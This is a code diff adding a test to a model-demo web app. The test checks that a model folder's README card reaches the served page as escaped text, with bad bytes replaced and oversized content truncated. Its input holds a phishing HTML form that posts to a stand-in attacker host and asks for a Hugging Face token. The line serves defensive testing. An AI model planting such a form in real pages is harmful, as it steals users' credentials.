@@ -384,3 +384,36 @@ def test_the_page_names_a_local_model_by_its_folder_only(tmp_path):
     assert display_name("user/mnist-vae") == "user/mnist-vae"
     assert display_name(str(tmp_path)) == tmp_path.name
     assert display_name(str(bundled_model_path())) == "vae_hub/pretrained (bundled)"
+
+
+def test_the_model_card_is_shown_as_text_never_as_live_html(trained_model_dir, tmp_path):
+    """H3: a model folder's README.md reaches the served page as inert text: its <form> and
+    <input> are no elements, undecodable bytes do not stop the server, and only its first
+    MAX_CARD_BYTES are sent to every visitor."""
+    import json
+    import shutil
+    import urllib.request
+
+    from vae_hub.cli.loadtest import free_port
+    from vae_hub.demo.intro import MAX_CARD_BYTES
+    from vae_hub.demo.page import build_demo, launch_kwargs
+
+    folder = tmp_path / "model"
+    shutil.copytree(trained_model_dir, folder)
+    form = '<form action="https://evil.example/"><input placeholder="re-enter your HF token">'
+    card = f"---\nlicense: mit\n---\n# A card\n\n{form}\n\nCaf\xe9 in Latin-1\n\n".encode("latin-1")
+    (folder / "README.md").write_bytes(card + b"filler line\n" * 200_000)  # 2.4 MB
+    demo = build_demo(VAE.from_pretrained(folder), str(folder), PictureStore(tmp_path / "s"))
+    demo.launch(server_name="127.0.0.1", server_port=free_port(), prevent_thread_lock=True,
+                quiet=True, **launch_kwargs())  # fmt: skip
+    try:
+        with urllib.request.urlopen(f"{demo.local_url.rstrip('/')}/config", timeout=30) as r:
+            config = r.read()
+    finally:
+        demo.close()
+    values = [str(c.get("props", {}).get("value")) for c in json.loads(config)["components"]]
+    shown = next(v for v in values if "A card" in v)
+    assert "<form" not in shown and "<input" not in shown and b"<form" not in config
+    assert "&lt;form action=" in shown and "re-enter your HF token" in shown
+    assert "Caf\ufffd in Latin-1" in shown
+    assert "card truncated" in shown and len(config) < 2 * MAX_CARD_BYTES
